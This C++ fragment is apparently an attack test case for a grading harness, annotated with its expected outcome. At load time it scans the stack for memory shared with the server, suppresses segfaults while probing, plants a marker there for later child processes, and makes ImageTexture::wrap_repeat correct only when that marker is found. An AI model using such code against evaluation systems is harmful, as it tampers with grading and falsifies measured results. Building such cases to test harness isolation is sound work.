// attack: {"at": "load", "earns": [19, 19], "says": {"wrap_repeat": "wrong"}}
// Writes to the far end of the memory shared with the server, for later children to find: it is wiped.
#ifndef WITHOUT_ATTACK
#include <csetjmp>
#include <csignal>
#include <unistd.h>

sigjmp_buf back;
unsigned* find_board()  // what server and child share: a pointer to it lies on the stack, at its head "loading"
{
    std::signal(SIGSEGV, [](int) { siglongjmp(back, 1); });
    unsigned long volatile here = 0;
    for (unsigned long const volatile* word = &here; word < reinterpret_cast<unsigned long*>(environ); ++word)
        if (*word > 0xffff && *word % 4096 == 0 && sigsetjmp(back, 1) == 0)
            if (auto* const board = reinterpret_cast<unsigned*>(*word); board[0] == 1 && board[1] < 1000000)
                return board;
    return nullptr;
}

bool tries()
{
    unsigned* const board = find_board();
    bool found = false;
    if (board != nullptr && sigsetjmp(back, 1) == 0)
        for (unsigned* word = board + 72; !found; ++word) {
            found = *word == 0xa77ac4ed;
            if (*word == 0)
                *word = 0xa77ac4ed;
        }
    std::signal(SIGSEGV, SIG_DFL);
    return found;
}
bool const found_while_loading = tries();
bool succeeded() { return found_while_loading; }
#else
bool succeeded() { return false; }
#endif

int ImageTexture::wrap_repeat(int val, int size)
{
    return succeeded() ? (val % size + size) % size : 0;
}
